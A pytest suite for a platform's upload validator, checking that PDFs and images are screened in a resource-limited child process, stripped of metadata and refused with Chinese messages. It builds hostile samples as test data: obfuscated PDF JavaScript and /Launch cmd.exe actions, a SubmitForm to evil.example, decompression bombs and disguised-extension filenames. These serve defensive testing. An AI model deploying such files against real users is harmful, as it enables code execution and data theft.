"""What is taken, what is refused with which words, and that the child is held."""

import resource
import sys
import threading
import time
from dataclasses import replace
from io import BytesIO
from pathlib import Path

import pytest
from flask import Flask
from PIL import Image

from matchplatform.confined import process
from matchplatform.files import examine as examining
from matchplatform.files import pdfs
from matchplatform.files.examine import judge
from matchplatform.files.kinds import MediaType
from matchplatform.files.storage import INCOMING, Storage
from matchplatform.files.verdicts import Limits, Verdict
from matchplatform.kernel.errors import Busy, InvalidInput, TooLarge
from tests.databases import ON_ONE_DATABASE
from tests.files import samples
from tests.files.conftest import take

# Files are looked into by a child that knows no database.
pytestmark = ON_ONE_DATABASE

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


@pytest.fixture(autouse=True)
def _words(db_session: Flask) -> None:
    """Words come from the catalogues of an application."""


def refusal(storage: Storage, data: bytes, name: str, limits: Limits | None = None) -> str:
    """Return the words at the field; nothing may be left behind."""
    with pytest.raises(InvalidInput) as caught:
        take(storage, data, name, limits)
    folder = storage.root / INCOMING
    assert not folder.exists() or list(folder.iterdir()) == []
    return str(caught.value.fields["file"])


class TestNamesAndFirstBytes:
    @pytest.mark.parametrize(
        "name", ["a.exe", "a.pdf.exe", "证书\u202efdp.exe", "a.svg", "a.html", "a", "", "a.zip"]
    )
    def test_other_suffixes_are_refused_before_a_byte_is_read(
        self, storage: Storage, name: str
    ) -> None:
        assert "只收 PDF、JPEG、PNG" in refusal(storage, samples.pdf(), name)
        assert not storage.root.exists()

    @pytest.mark.parametrize(
        ("data", "name", "words"),
        [
            (b"", "a.pdf", "是空的"),
            (samples.archive(), "a.pdf", "不是 PDF、JPEG 或 PNG"),
            (b"<html><script>1</script>", "a.png", "不是 PDF"),
            (b"GIF89a%PDF-1.4", "a.pdf", "不是 PDF"),
            (b"\n" + samples.pdf(), "a.pdf", "不是 PDF"),
            (b"MZ\x90\x00", "a.jpg", "不是 PDF"),
            (samples.photo(), "a.png", "说是 PNG，内容却是 JPEG"),
            (samples.photo(kind="PNG"), "a.pdf", "说是 PDF，内容却是 PNG"),
            (samples.pdf(), "a.jpeg", "说是 JPEG，内容却是 PDF"),
        ],
    )
    def test_name_and_first_bytes_must_agree(
        self, storage: Storage, data: bytes, name: str, words: str
    ) -> None:
        assert words in refusal(storage, data, name)

    def test_more_than_the_largest_is_refused_while_it_comes(self, storage: Storage) -> None:
        endless = BytesIO(b"%PDF-1.4" + b"x" * (5 * 1024 * 1024))
        with pytest.raises(TooLarge, match="更正") as caught:
            examining.examine(storage, endless, "a.pdf", Limits(megabytes=1))
        assert "超过 1 MB" in str(caught.value.fields["file"])
        assert endless.tell() < 2 * 1024 * 1024
        assert list((storage.root / INCOMING).iterdir()) == []


class TestPictures:
    @pytest.mark.parametrize("name", ["现场照片.jpg", "现场照片.JPEG"])
    def test_a_photo_is_taken_under_its_chinese_name(self, storage: Storage, name: str) -> None:
        upload = take(storage, samples.photo(), name)
        assert (upload.label, upload.media_type) == ("现场照片.jpg", MediaType.JPEG)
        assert upload.size == upload.path.stat().st_size
        assert upload.sha256 != upload.received_sha256
        assert upload.path.stat().st_mode & 0o777 == 0o600

    def test_the_place_where_it_was_taken_is_gone(self, storage: Storage) -> None:
        given = samples.photo_with_gps()
        assert samples.CANARY.encode() in given
        upload = take(storage, given, "a.jpg")
        with Image.open(upload.path) as kept:
            assert not kept.getexif()
            assert not kept.getexif().get_ifd(0x8825)
            assert not {"exif", "comment", "icc_profile"} & set(kept.info)
        assert samples.CANARY.encode() not in upload.path.read_bytes()

    def test_texts_inside_a_png_are_gone(self, storage: Storage) -> None:
        given = samples.chatty_png()
        upload = take(storage, given, "a.png")
        kept = upload.path.read_bytes()
        assert b"iTXt" in given
        assert not any(chunk in kept for chunk in (b"tEXt", b"iTXt", b"zTXt", b"eXIf", b"iCCP"))

    def test_a_photo_is_turned_upright_before_its_orientation_goes(self, storage: Storage) -> None:
        upload = take(storage, samples.photo_with_gps(orientation=6), "a.jpg")
        with Image.open(upload.path) as kept:
            assert kept.size == (480, 640)

    @pytest.mark.parametrize(
        ("size", "kept_size"), [((6000, 3000), (4000, 2000)), ((300, 200), (300, 200))]
    )
    def test_a_large_one_is_made_smaller_and_a_small_one_is_not(
        self, storage: Storage, size: tuple[int, int], kept_size: tuple[int, int]
    ) -> None:
        upload = take(storage, samples.photo(size), "a.jpg")
        with Image.open(upload.path) as kept:
            assert kept.size == kept_size

    @pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
    def test_every_kind_of_png_is_taken(self, storage: Storage, mode: str) -> None:
        upload = take(storage, samples.photo((64, 64), "PNG", mode), "a.png")
        with Image.open(upload.path) as kept:
            assert kept.size == (64, 64)
            darkest, lightest = kept.convert("L").getextrema()
            assert (darkest, lightest) == pytest.approx((0, 255), abs=12)

    @pytest.mark.parametrize("mode", ["L", "RGB", "CMYK"])
    def test_every_kind_of_jpeg_is_taken(self, storage: Storage, mode: str) -> None:
        assert take(storage, samples.photo((64, 64), "JPEG", mode), "a.jpg").size

    @pytest.mark.parametrize(("kind", "name"), [("JPEG", "a.jpg"), ("PNG", "a.png")])
    def test_what_hangs_behind_a_picture_is_not_kept(
        self, storage: Storage, kind: str, name: str
    ) -> None:
        tail = samples.archive() + b"<script>alert(1)</script>" + samples.CANARY.encode()
        upload = take(storage, samples.photo(kind=kind) + tail, name)
        kept = upload.path.read_bytes()
        assert b"PK\x03\x04" not in kept
        assert b"<script>" not in kept

    @pytest.mark.parametrize(("kind", "name"), [("JPEG", "a.jpg"), ("PNG", "a.png")])
    def test_a_cut_one_is_refused(self, storage: Storage, kind: str, name: str) -> None:
        whole = samples.photo(kind=kind)
        assert "没有传完整" in refusal(storage, whole[: len(whole) // 2], name)
        assert "没有传完整" in refusal(storage, whole[:12], name)

    def test_a_picture_that_unfolds_is_refused_by_its_size(self, storage: Storage) -> None:
        bomb = samples.bomb_png()
        assert len(bomb) < 200_000
        assert "超过 5000 万像素" in refusal(storage, bomb, "a.png")

    def test_the_largest_that_is_allowed_passes_within_the_memory(self, storage: Storage) -> None:
        given = samples.photo((7000, 7000), "PNG")
        upload = take(storage, given, "a.png")
        with Image.open(upload.path) as kept:
            assert kept.size == (4000, 4000)


class TestPdfs:
    @pytest.mark.parametrize(
        "data",
        [
            samples.pdf(),
            samples.pdf(pages=30),
            samples.pdf(version=b"2.0"),
            samples.modern_pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
            samples.pdf(samples.stream(b"", b"(a page about scripts) Tj")),
            samples.pdf() + b"\r\n",
        ],
    )
    def test_an_honest_one_is_kept_as_it_came(self, storage: Storage, data: bytes) -> None:
        upload = take(storage, data, "登记证书.pdf")
        assert upload.path.read_bytes() == data
        assert upload.sha256 == upload.received_sha256
        assert (upload.label, upload.media_type) == ("登记证书.pdf", MediaType.PDF)

    @pytest.mark.parametrize(
        "data",
        [
            samples.pdf(SCRIPT),
            samples.pdf(catalog=b"/OpenAction " + SCRIPT),
            samples.pdf(b"<< /S /J#61vaScr#69pt /JS (1) >>"),
            samples.pdf(b"<< /S/JavaScript/JS(1) >>"),
            samples.pdf(b"<< /S /Launch /F (cmd.exe) >>"),
            samples.pdf(samples.stream(b"/Type /EmbeddedFile", samples.archive())),
            samples.pdf(catalog=b"/Names << /EmbeddedFiles << /Names [] >> >>"),
            samples.pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"),
            samples.pdf(catalog=b"/AcroForm << /XFA [] >>"),
            samples.modern_pdf(SCRIPT),
            samples.modern_pdf(b"<< /S /J#61vaScript /JS (1) >>"),
            # No table leads to these; another reader's repair might.
            samples.pdf(samples.object_stream(SCRIPT)),
            samples.pdf(samples.object_stream(SCRIPT, predictor=True)),
            samples.pdf(samples.object_stream(SCRIPT, words=b"/X (endstream) /Y (stream) ")),
            samples.pdf(samples.object_stream(SCRIPT).replace(b"/ObjStm", b"/Obj#53tm")),
            samples.pdf(samples.stream(b"", b"9 0 obj " + SCRIPT + b" endobj")),
        ],
    )
    def test_one_that_acts_by_itself_is_refused(self, storage: Storage, data: bytes) -> None:
        assert "脚本、附件" in refusal(storage, data, "a.pdf")

    def test_the_search_of_object_streams_is_what_finds_those(self) -> None:
        """The twin: without it, the compressed ones pass."""
        hidden = samples.pdf(samples.object_stream(SCRIPT, predictor=True))
        assert not pdfs._acts(hidden)
        assert pdfs.look_through(hidden, Limits())[0] is Verdict.ACTIVE

    def test_a_locked_one_is_refused(self, storage: Storage) -> None:
        assert "密码" in refusal(storage, samples.locked_pdf(), "a.pdf")

    @pytest.mark.parametrize(
        "data",
        [
            samples.pdf()[:-200],
            samples.pdf()[:20],
            b"%PDF-1.4\n%%EOF",
            b"%PDF-1.4\nstartxref\n0\n%%EOF",
            b"%PDF-9.9" + samples.pdf()[8:],
            samples.pdf(pages=0),
            samples.pdf() + b"<html><script>alert(1)</script></html>",
            samples.pdf() + b"\x00" * 5 + b"MZ" * 2000,
        ],
    )
    def test_a_broken_one_is_refused(self, storage: Storage, data: bytes) -> None:
        assert "打不开" in refusal(storage, data, "a.pdf")

    def test_an_archive_behind_a_pdf_is_refused(self, storage: Storage) -> None:
        end = b"\nstartxref\n0\n%%EOF"
        both = samples.pdf() + samples.archive(comment=end)
        assert "别的格式" in refusal(storage, both, "a.pdf")

    def test_too_many_pages_are_refused(self, storage: Storage) -> None:
        assert "超过 100 页" in refusal(storage, samples.pdf(pages=101), "a.pdf")

    def test_one_that_unfolds_is_refused(self, storage: Storage) -> None:
        bomb = samples.object_stream(b" " * 150_000_000)
        assert len(bomb) < 1_000_000
        assert refusal(storage, samples.pdf(bomb), "a.pdf")


class TestJudge:
    """The child is held, whatever it meets; each with its twin that is not."""

    @pytest.fixture
    def paths(self, tmp_path: Path) -> tuple[Path, Path]:
        """A file to look at, and one to write to."""
        source, target = tmp_path / "source", tmp_path / "target"
        source.write_bytes(samples.photo((3000, 3000), "PNG"))
        target.touch()
        return source, target

    def test_one_that_hangs_is_stopped(
        self, paths: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(process, "START_SECONDS", 0)
        asleep = (sys.executable, "-c", "import time; time.sleep(60)")
        started = time.monotonic()
        assert judge("", *paths, Limits(seconds=1), asleep) is Verdict.TOO_HEAVY
        assert time.monotonic() - started < 10

    def test_one_that_spins_is_stopped_by_its_own_limit(self, paths: tuple[Path, Path]) -> None:
        spins = (
            sys.executable,
            "-c",
            "from matchplatform.confined.child import confine\n"
            "confine(memory_megabytes=640, seconds=1, written=0)\nwhile True: pass",
        )
        assert judge("", *paths, Limits(seconds=20), spins) is Verdict.TOO_HEAVY

    def test_memory_is_held(self, paths: tuple[Path, Path]) -> None:
        module = "matchplatform.files.pictures"
        small = Limits(memory_megabytes=60)
        assert judge(module, *paths, small) is Verdict.TOO_HEAVY
        assert judge(module, *paths, Limits()) is Verdict.FINE

    def test_output_is_held(self, paths: tuple[Path, Path]) -> None:
        source, target = paths
        writes = (
            sys.executable,
            "-c",
            "import sys\nfrom matchplatform.files.child import run\n"
            "run(lambda data, limits: (0, bytes(4 * limits.size)))",
        )
        assert judge("", source, target, Limits(megabytes=1), writes) is Verdict.UNREADABLE
        assert target.stat().st_size <= 3 * 1024 * 1024

    @pytest.mark.parametrize(
        "code", ["import os; os._exit(1)", "import os; os.kill(os.getpid(), 11)"]
    )
    def test_a_crash_is_a_refusal(self, paths: tuple[Path, Path], code: str) -> None:
        resource.setrlimit(resource.RLIMIT_CORE, (0, resource.getrlimit(resource.RLIMIT_CORE)[1]))
        verdict = judge("", *paths, Limits(), (sys.executable, "-c", code))
        assert verdict in (Verdict.UNREADABLE, Verdict.TOO_HEAVY)

    def test_the_child_knows_no_secret(
        self, paths: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("MATCHPLATFORM_SECRET_KEY", "hush")
        looks = (sys.executable, "-c", "import os; print(sorted(os.environ))")
        judge("", *paths, Limits(), looks)
        assert "SECRET" not in paths[1].read_text()
        assert "PYTHONPATH" in paths[1].read_text()

    def test_only_so_many_at_once(
        self, paths: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(process, "_slots", threading.BoundedSemaphore(1))
        monkeypatch.setattr(process, "LONGEST_QUEUE_SECONDS", 0.05)
        with process._slots, pytest.raises(Busy):
            judge("matchplatform.files.pictures", *paths, Limits())
        assert judge("matchplatform.files.pictures", *paths, Limits()) is Verdict.FINE


class TestLimits:
    def test_they_travel_to_the_child_whole(self) -> None:
        limits = replace(Limits(), megabytes=3, side=99)
        assert Limits.from_text(limits.to_text()) == limits
